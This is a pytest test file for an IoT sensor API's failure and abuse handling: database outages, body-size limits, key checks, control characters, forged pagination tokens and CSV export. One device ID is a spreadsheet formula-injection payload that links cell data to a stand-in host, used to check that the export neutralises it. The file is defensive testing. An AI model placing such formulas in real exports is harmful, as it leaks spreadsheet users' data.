"""The API under failure and abuse (issue 17): every case answers a documented 4xx or a 503,
never a 500, on real PostgreSQL and MongoDB-protocol servers.

A database "away" is a real refused connection: the settings point the API at a port nothing
listens on, exactly what a client sees while the server is down (the stack's outage test stops
the real servers)."""

from __future__ import annotations

import base64
import json
import os
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta

import pytest

from iot_cli.localstack.process import free_port
from iot_core.connections import mongo_client, mongo_db, pg_connect
from iot_core.settings import get_settings

T0 = datetime(2024, 3, 1, 12, 0, tzinfo=UTC)
MEASURES = ("iaq", "temperature", "humidity", "pressure", "voc", "co2", "iaq_accuracy")
PAYLOAD = {"devid": "abuse-dev", "ts": "2024-03-01T12:00:00Z", "readings": [80, 24.1, 50, 101.2, 0.5, 650, 3]}


@contextmanager
def env(**values: str):
    """Settings changed for the block (environment wins over .env), restored after."""
    old = {k: os.environ.get(k) for k in values}
    os.environ.update(values)
    get_settings.cache_clear()
    try:
        yield
    finally:
        for k, v in old.items():
            if v is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = v
        get_settings.cache_clear()


@pytest.fixture(scope="module")
def key(api_key):
    return api_key


@pytest.fixture(scope="module")
def readings(client, reading_tables):
    with pg_connect("transformer") as conn, conn.cursor().copy("copy stage.stg_sensor_readings from stdin") as copy:
        for device in ("dev-a", "dev-b", "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")"):
            for minute in range(10):
                for i, m in enumerate(MEASURES):
                    copy.write_row((T0 + timedelta(minutes=minute), device, m, -3.5 + minute + i))


def ts(d: datetime) -> int:
    return int(d.timestamp())


WINDOW = {"from": ts(T0), "to": ts(T0 + timedelta(hours=1))}
GET_QUERIES = {
    "/sensorsdata": {**WINDOW, "device": "dev-a"},
    "/predictions": {**WINDOW, "device": "dev-a"},
    "/sensors": {},
    "/sensorsdata/export": {**WINDOW, "device": "dev-a"},
}


# ------------------------------------------------------------------ databases away: 503, never 500
@pytest.mark.parametrize("path", sorted(GET_QUERIES))
def test_postgres_away_answers_503_with_a_reason(client, key, readings, path):
    with env(PG_PORT=str(free_port())):
        r = client.get(path, params=GET_QUERIES[path], headers={"x-api-key": key})
    assert r.status_code == 503
    assert "PostgreSQL" in r.json()["detail"] and r.headers["retry-after"]


def test_put_with_postgres_away_answers_503(client, key):
    with env(PG_PORT=str(free_port())):
        r = client.put("/sensorsdata", json=PAYLOAD, headers={"x-api-key": key})
    assert r.status_code == 503 and "PostgreSQL" in r.json()["detail"]


@contextmanager
def mongodb_away(client):
    """The app's MongoDB client (lifespan state) swapped for one whose server does not listen."""
    saved = client.app_state["mongo"]
    with env(MONGO_PORT=str(free_port())):
        client.app_state["mongo"] = mongo_client(serverSelectionTimeoutMS=3000, connectTimeoutMS=3000)
    try:
        yield
    finally:
        client.app_state["mongo"].close()
        client.app_state["mongo"] = saved


def test_put_with_mongodb_away_answers_503(client, key):
    with mongodb_away(client):
        r = client.put("/sensorsdata", json=PAYLOAD, headers={"x-api-key": key})
    assert r.status_code == 503
    assert "MongoDB" in r.json()["detail"] and r.headers["retry-after"]


def test_health_names_what_is_down(client):
    ok = client.get("/health")
    assert ok.status_code == 200 and ok.json() == {"status": "ok", "postgres": "ok", "mongodb": "ok"}
    with mongodb_away(client):
        no_mongo = client.get("/health")
    assert no_mongo.status_code == 503
    assert no_mongo.json()["postgres"] == "ok" and no_mongo.json()["mongodb"].startswith("unavailable")
    with env(PG_PORT=str(free_port())):
        no_pg = client.get("/health")
    assert no_pg.status_code == 503
    body = no_pg.json()
    assert body["status"] == "unavailable" and body["postgres"].startswith("unavailable") and body["mongodb"] == "ok"
    assert str(get_settings().pg_port) not in no_pg.text  # a public endpoint: no host or port in the reason


# ------------------------------------------------------------------ body size and key before body
def test_body_over_the_limit_is_refused_from_its_length(client, key):
    limit = get_settings().api_max_body_bytes
    body = b"x" * (limit + 1)
    r = client.put("/sensorsdata", content=body, headers={"content-type": "application/json"})
    assert r.status_code == 413, "the length is checked before the key and before reading"
    r = client.put("/sensorsdata", content=body, headers={"x-api-key": key, "content-type": "application/json"})
    assert r.status_code == 413 and "API_MAX_BODY_BYTES" in r.json()["detail"]


def test_chunked_body_over_the_limit_is_refused_while_read(client, key):
    limit = get_settings().api_max_body_bytes

    def chunks():  # no Content-Length: httpx sends it chunked
        for _ in range(limit // 1000 + 2):
            yield b" " * 1000

    r = client.put("/sensorsdata", content=chunks(), headers={"x-api-key": key, "content-type": "application/json"})
    assert r.status_code == 413


async def _call(app, method: str, path: str, headers: dict[str, str], body: bytes) -> tuple[int, bool]:
    """One request straight through the ASGI interface; returns (status, whether the body was read)."""
    read = False
    status = 0

    async def receive():
        nonlocal read
        read = True
        return {"type": "http.request", "body": body, "more_body": False}

    async def send(message):
        nonlocal status
        if message["type"] == "http.response.start":
            status = message["status"]

    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": method, "scheme": "http",
             "path": path, "raw_path": path.encode(), "query_string": b"", "root_path": "",
             "headers": [(k.lower().encode(), v.encode()) for k, v in headers.items()],
             "client": ("127.0.0.1", 1), "server": ("127.0.0.1", 80)}
    await app(scope, receive, send)
    return status, read


def test_the_key_is_checked_before_the_body_is_read(client, key):
    import anyio

    from api.app import app

    body = json.dumps(PAYLOAD).encode()
    length = {"content-type": "application/json", "content-length": str(len(body))}
    assert anyio.run(_call, app, "PUT", "/sensorsdata", length, body) == (401, False)
    assert anyio.run(_call, app, "PUT", "/sensorsdata", {**length, "x-api-key": "iot_forged"}, body) == (403, False)
    # a broken body behind a wrong key is a 403, not a 422: the body was never parsed
    r = client.put("/sensorsdata", content=b"{not json", headers={"x-api-key": "iot_forged",
                                                                  "content-type": "application/json"})
    assert r.status_code == 403


# ------------------------------------------------------------------ control characters
@pytest.mark.parametrize("path", sorted(GET_QUERIES))
@pytest.mark.parametrize("char", ["\x00", "\r", "\n", "\x1b", "\x7f"])
def test_control_characters_in_any_parameter_give_400(client, key, readings, path, char):
    base = {**GET_QUERIES[path], "device": "dev-a", "measure": "iaq", "NextToken": "x"}
    for name in base:
        r = client.get(path, params={**base, name: f"dev{char}a"}, headers={"x-api-key": key})
        assert r.status_code == 400, (name, r.text)
        assert "control character" in r.json()["detail"]
    r = client.get(path, params={**GET_QUERIES[path], f"x{char}": "1"}, headers={"x-api-key": key})
    assert r.status_code == 400


def test_nul_in_a_device_id_gives_400_not_500(client, key, readings):
    r = client.get("/sensorsdata", params={**WINDOW, "device": "dev\x00a"}, headers={"x-api-key": key})
    assert r.status_code == 400
    r = client.get("/sensorsdata", params={**WINDOW, "device": "dev-a"}, headers={"x-api-key": key})
    assert r.status_code == 200


# ------------------------------------------------------------------ NextToken: signed and bound to its query
def _pages(client, key, query: dict) -> list[dict]:
    pages, token = [], None
    while True:
        r = client.get("/sensorsdata", params={**query, **({"NextToken": token} if token else {})},
                       headers={"x-api-key": key})
        assert r.status_code == 200, r.text
        pages.append(r.json())
        token = r.json()["ExecutionInfo"].get("NextToken")
        if not token:
            return pages


def test_a_token_continues_its_own_query(client, key, readings):
    pages = _pages(client, key, {**WINDOW, "device": "dev-a", "limit": 30})
    assert [len(p["Records"]) for p in pages] == [30, 30, 10]
    assert len({(r[0], r[2]) for p in pages for r in p["Records"]}) == 70


@pytest.mark.parametrize("change", [{"device": "dev-b"}, {"limit": 31}, {"measure": "iaq"},
                                    {"to": ts(T0 + timedelta(hours=2))}])
def test_a_token_of_another_query_gives_400(client, key, readings, change):
    query = {**WINDOW, "device": "dev-a", "limit": 30}
    token = _pages(client, key, query)[0]["ExecutionInfo"]["NextToken"]
    r = client.get("/sensorsdata", params={**query, **change, "NextToken": token}, headers={"x-api-key": key})
    assert r.status_code == 400 and "another query" in r.json()["detail"]
    # the same token on another endpoint with the same parameters
    r = client.get("/predictions", params={**query, "NextToken": token}, headers={"x-api-key": key})
    assert r.status_code == 400


def test_forged_and_edited_tokens_give_400(client, key, readings):
    query = {**WINDOW, "device": "dev-a", "limit": 30}
    token = _pages(client, key, query)[0]["ExecutionInfo"]["NextToken"]
    payload, signature = token.split(".")
    position = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
    edited = {**position, "t": (T0 - timedelta(days=365)).isoformat()}
    edited_payload = base64.urlsafe_b64encode(json.dumps(edited).encode()).decode().rstrip("=")
    unsigned = base64.urlsafe_b64encode(json.dumps({"t": T0.isoformat(), "m": "co2"}).encode()).decode()
    for forged in (f"{edited_payload}.{signature}", payload, f"{payload}.{signature[:-2]}xx", unsigned,
                   "!!garbage", "e30", "bnVsbA", "." * 40, "\u00e9t\u00e9"):
        r = client.get("/sensorsdata", params={**query, "NextToken": forged}, headers={"x-api-key": key})
        assert r.status_code == 400, (forged, r.text)
        assert "NextToken" in r.json()["detail"]


# ------------------------------------------------------------------ the OpenAPI document and the CSV
def test_openapi_lists_every_answer_and_media_type(client):
    doc = client.get("/openapi.json").json()
    assert doc["components"]["securitySchemes"]["APIKeyHeader"] == {"type": "apiKey", "in": "header",
                                                                     "name": "x-api-key"}
    for path, operations in doc["paths"].items():
        for method, op in operations.items():
            codes = set(op["responses"])
            assert {"400", "413", "503"} <= codes, (method, path)
            if path != "/health":
                assert {"401", "403", "422"} <= codes and op["security"] == [{"APIKeyHeader": []}], (method, path)
            for code, answer in op["responses"].items():
                assert answer.get("content"), (method, path, code)
    assert "409" in doc["paths"]["/sensorsdata"]["put"]["responses"]
    assert list(doc["paths"]["/sensorsdata/export"]["get"]["responses"]["200"]["content"]) == ["text/csv"]


def test_csv_export_neutralises_formulas_but_not_numbers(client, key, readings):
    device = "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")"
    r = client.get("/sensorsdata/export", params={**WINDOW, "device": device}, headers={"x-api-key": key})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    first = r.text.splitlines()[1]
    assert first.split(",")[1].startswith('"\'=HYPERLINK(')
    assert first.endswith(",-3.5,-2.5,-1.5,-0.5,0.5,1.5,2.5")


def test_put_still_stores_after_all_checks(client, key):
    with mongo_client() as mc:
        mongo_db(mc)["air_quality"].delete_many({"devid": PAYLOAD["devid"]})
        # the contract stores readings of registered devices only
        mongo_db(mc)["devices"].replace_one({"_id": PAYLOAD["devid"]},
                                            {"_id": PAYLOAD["devid"], "kind": "air_quality"}, upsert=True)
    r = client.put("/sensorsdata", json=PAYLOAD, headers={"x-api-key": key})
    assert r.status_code == 201, r.text


def test_a_lone_surrogate_in_the_body_gives_422_not_500(client, key):
    """JSON may escape a lone surrogate; echoing it in the 422 made that answer itself fail."""
    body = '{"devid": "a\\ud800b", "ts": "2024-03-01T12:00:00Z", "readings": [1, 1, 1, 1, 1, 1, 1]}'
    r = client.put("/sensorsdata", content=body, headers={"x-api-key": key, "content-type": "application/json"})
    assert r.status_code == 422 and "\\\\ud800" in r.text
